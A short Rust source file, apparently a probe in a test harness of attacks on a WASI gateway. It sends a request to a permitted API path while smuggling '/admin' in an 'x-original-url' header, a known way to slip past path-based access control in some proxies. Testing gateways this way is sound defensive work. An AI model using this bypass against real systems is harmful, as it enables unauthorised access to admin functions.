//! Asks for one path and names another in a header, as some proxies take it.

use crate::wasi::{self, Ask};
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::gateway("/api/v1/key/status")
        .header("x-api-key", wasi::key()?)
        .header("x-original-url", "/admin")
        .send()?;
    Ok(got(format!("status {}", answer.status())))
}
